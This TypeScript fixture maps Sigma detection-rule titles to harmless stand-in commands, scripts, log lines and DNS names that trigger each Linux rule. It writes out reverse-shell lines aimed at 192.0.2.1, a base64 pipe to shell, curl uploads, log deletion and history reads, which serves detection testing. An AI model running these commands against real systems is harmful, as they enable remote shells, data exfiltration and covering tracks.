/**
 * Actions that provoke each rule of the Sigma yardsticks, by the title of the rule. The programs are harmless and have
 * the names that the rules match.
 */

/** Program and arguments: a list, or a text that is split at spaces. */
export type Execution = string | readonly string[];

/** Executions, each started once. The program does nothing. */
export const EXECUTIONS: Readonly<Record<string, Execution>> = {
  'Terminate Linux Process Via Kill': 'pkill -0 nobody-is-called-so',
  'Binary Padding - Linux': 'truncate -s 1 file',
  'Linux Capabilities Discovery': 'getcap -r /',
  'Remove Immutable File Attribute - Auditd': 'chattr -i file',
  'Clipboard Collection of Image Data with Xclip Tool': 'xclip -selection clipboard -t image/png -o',
  'Data Compressed': 'tar -cf a.tar file',
  'Overwriting the File with Dev Zero or Null': 'dd if=/dev/zero of=file',
  'Credentials In Files - Linux': 'grep -r password .',
  'Steganography Hide Zip Information in Picture File': 'cat a.png b.zip',
  'Modify System Firewall': 'iptables DROP',
  'Screen Capture with Import Tool': 'import -window root a.png',
  'Steganography Hide Files with Steghide': 'steghide embed -cf a -ef b',
  'Suspicious Commands Linux': 'chmod 777 file',
  'Service Reload or Start - Linux': 'systemctl restart nothing',
  'Steganography Unzip Hidden Information From Picture File': 'unzip a.jpg',
  'Audio Capture': 'arecord -vv -fdat',
  'Use Of Hidden Paths Or Files': '.hidden',
  'Split A File Into Pieces - Linux': 'split file',
  'Program Executions in Suspicious Folders': 'anything',
  'Equation Group Indicators': ['sh', '-c', 'chmod 700 crond'],
  'Commands to Clear or Remove the Syslog - Builtin': ['echo', 'rm -f /var/log/syslog'],
  'Code Injection by ld.so Preload': 'echo /etc/ld.so.preload',
  'Suspicious Activity in Shell Commands': 'echo python -m SimpleHTTPServer',
  'Suspicious Reverse Shell Command Line': ['echo', 'bash -i >& /dev/tcp/192.0.2.1/443'],
  'Suspicious Use of /dev/tcp': ['echo', 'exec 5<>/dev/tcp/192.0.2.1/443'],
  'Symlink Etc Passwd': 'ln -s /etc/passwd link',
  'Shell Invocation via Apt - Linux': 'apt update -o APT::Update::Pre-Invoke::=x',
  'Audit Rules Deleted Via Auditctl': 'auditctl -D',
  'Suspicious Invocation of Shell via AWK - Linux': ['awk', 'BEGIN {system("/bin/sh")}'],
  'Linux Base64 Encoded Pipe to Shell': ['echo', 'x | base64 -d | sh '],
  'Bash Interactive Shell': 'bash -i x',
  'BPFtrace Unsafe Option Usage': 'bpftrace --unsafe',
  'Linux Setuid Capability Set on a Binary via Setcap Utility': 'setcap cap_setuid+ep file',
  'Capsh Shell Invocation - Linux': 'capsh --',
  'Chmod Targeting Sensitive Directories': 'chmod 700 /opt/file',
  'Linux Logs Clearing Attempts': 'rm /var/log/nothing',
  'Clipboard Collection with Xclip Tool': 'xclip -sel clip -o',
  'Crontab Enumeration': 'crontab -l',
  'Linux Crypto Mining Indicators': 'miner -o pool.example.org',
  'Suspicious Download and Execute Pattern via Curl/Wget': 'sh -c /usr/bin/curl /tmp/x',
  'Potential Linux Process Code Injection Via DD Utility': 'dd of=/proc/self/mem',
  'Linux Doas Tool Execution': 'doas x',
  'ESXi Network Configuration Discovery Via ESXCLI': 'esxcli network ip get',
  'ESXi Storage Information Discovery Via ESXCLI': 'esxcli storage vmfs list',
  'ESXi System Information Discovery Via ESXCLI': 'esxcli system version get',
  'ESXi VM List Discovery Via ESXCLI': 'esxcli vm process list',
  'ESXi VSAN Information Discovery Via ESXCLI': 'esxcli vsan debug list',
  'File Deletion': 'shred file',
  'Shell Execution via Flock - Linux': 'flock -u / /bin/sh',
  'Group Has Been Deleted Via Groupdel': 'groupdel nobodies',
  'Suspicious Package Installed - Linux': 'apt install nmap',
  'Local System Accounts Discovery - Linux': 'lastlog',
  'Potential GobRAT File Discovery Via Grep': 'grep apached',
  'Potentially Suspicious Named Pipe Created Via Mkfifo': 'mkfifo /tmp/x',
  'Potential Netcat Reverse Shell Execution': 'nc -e /bin/sh',
  'Nohup Execution': 'nohup x',
  'Potential Perl Reverse Shell Execution': ['perl', '-e', 'use Socket; connect; open; exec'],
  'Pnscan Binary Data Transmission Activity': ['pnscan', '-W', '"41 42 43"'],
  'PUA - TruffleHog Execution - Linux': 'trufflehog x',
  'Python WebServer Execution - Linux': 'python3 -m http.server',
  'Python Reverse Shell Execution Via PTY And Socket Modules': [
    'python3',
    '-c',
    'import socket,pty;s.connect();pty.spawn()',
  ],
  'Linux Package Uninstall': 'apt remove x',
  'Scheduled Cron Task/Job - Linux': 'crontab /tmp/x',
  'Disabling Security Tools': 'systemctl stop firewalld',
  'Setuid and Setgid': ['sh', '-c', 'chown root x; chmod u+s x'],
  'Potential Linux Amazon SSM Agent Hijacking': 'amazon-ssm-agent -register -code a -id b -region c',
  'Suspicious Curl File Upload - Linux': 'curl -F x http://192.0.2.1/',
  'Docker Container Discovery Via Dockerenv Listing': 'ls /.dockerenv',
  'Potentially Suspicious Execution From Tmp Folder': 'anything',
  'Suspicious Git Clone - Linux': 'git clone http://192.0.2.1/exploit',
  'Print History File Contents': 'cat /root/.bash_history',
  'Potential Container Discovery Via Inodes Listing': 'ls -id /',
  'Linux Shell Pipe to Shell': ['sh', '-c', 'x | sh'],
  'Linux Recon Indicators': 'find / -name .htpasswd',
  'Potential Suspicious Change To Sensitive/Critical Files': ['cat', 'x > /etc/hosts'],
  'Execution Of Script Located In Potentially Suspicious Directory': 'sh -c /tmp/x',
  'System Network Connections Discovery - Linux': 'netstat',
  'Mask System Power Settings Via Systemctl': 'systemctl mask suspend.target',
  'Triple Cross eBPF Rootkit Execve Hijack': 'sudo execve_hijack',
  'User Has Been Deleted Via Userdel': 'userdel nobody-is-called-so',
  'Vim GTFOBin Abuse - Linux': 'vim -c :!/bin/sh',
  'Download File To Potentially Suspicious Directory Via Wget': 'wget -O /tmp/x http://192.0.2.1/',
};

/**
 * Shell scripts, each in a separate mount namespace with an empty /etc, /var and /tmp. `$BIN` has a program that does
 * nothing and `$SH` a shell, under each name of `needs`.
 */
export const SCRIPTS: Readonly<Record<string, { readonly script: string; readonly needs?: readonly string[] }>> = {
  'Linux Keylogging with Pam.d': { script: 'mkdir /etc/pam.d; : > /etc/pam.d/system-auth' },
  'Auditing Configuration Changes on Linux Host': { script: 'mkdir /etc/audit; : > /etc/audit/auditd.conf' },
  'Logging Configuration Changes on Linux Host': { script: ': > /etc/rsyslog.conf' },
  'System and Hardware Information Discovery': { script: 'read line < /proc/version' },
  'Unix Shell Configuration Modification': { script: ': > /etc/profile' },
  'Persistence Via Sudoers.d Files': { script: 'mkdir /etc/sudoers.d; : > /etc/sudoers.d/eve' },
  'Suspicious Filename with Embedded Base64 Commands': { script: ": > '/tmp/{echo,aWQ=}'" },
  'Triple Cross eBPF Rootkit Default LockFile': { script: ': > /tmp/rootlog' },
  'Python Path Configuration File Creation - Linux': {
    script: 'mkdir -p /tmp/lib/python3.11/site-packages; : > /tmp/lib/python3.11/site-packages/a.pth',
  },
  'Wget Creating Files in Tmp Directory': { script: "$SH/wget -c ': > /tmp/file'", needs: ['wget'] },
  'OMIGOD SCX RunAsProvider ExecuteScript': {
    script:
      'mkdir -p /var/opt/microsoft/scx/tmp; cd /var/opt/microsoft/scx/tmp; $BIN/sh /etc/opt/microsoft/scx/conf/tmpdir/scx',
  },
  'Loading of Kernel Module via Insmod': { script: 'mount --bind $BIN /usr/bin; /usr/bin/insmod', needs: ['kmod'] },
  'Shell Execution via Git - Linux': { script: '$SH/git -c \'$BIN/sh -c "sh 0<&1"; :\' x -p help', needs: ['git'] },
  'Suspicious Java Children Processes': { script: "$SH/java -c '$BIN/bash; :'", needs: ['java'] },
  'Suspicious Invocation of Shell via Rsync': { script: "$SH/rsync -c '$BIN/sh x; :'", needs: ['rsync'] },
  'Remote Access Tool - Team Viewer Session Started On Linux Host': {
    script: "$SH/TeamViewer_Service -c '$BIN/TeamViewer_Desktop --IPCport 5939 --Module 1; :'",
    needs: ['TeamViewer_Service', 'TeamViewer_Desktop'],
  },
  'Clear or Disable Kernel Ring Buffer Logs via Syslog Syscall': {
    // The user nobody lacks the permission; the rule matches the attempt.
    script: 'setpriv --reuid=65534 --regid=65534 --clear-groups --bounding-set=-all dmesg --clear || true',
  },
  'Webshell Remote Command Execution': {
    script: 'setpriv --reuid=33 --regid=33 --clear-groups $BIN/id',
    needs: ['id'],
  },
};

/** Log lines in the format of the programs. */
export const LINES: Readonly<Record<string, string>> = {
  'Modifying Crontab': 'crontab[812]: (root) REPLACE (root)',
  'Privileged User Has Been Created':
    'useradd[813]: new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0',
  'Disabling Security Tools - Builtin': 'init[1]: stopping iptables',
  'Suspicious VSFTPD Error Messages':
    'vsftpd[814]: [pid 814] FTP response: Client "192.0.2.9", "500 Input line too long."',
};

/** Names of DNS queries. */
export const DNS_QUERIES: Readonly<Record<string, string>> = {
  'Linux Crypto Mining Pool Connections': 'pool.minexmr.com',
  'Communication To Ngrok Tunneling Service - Linux': 'tunnel.us.ngrok.com',
};
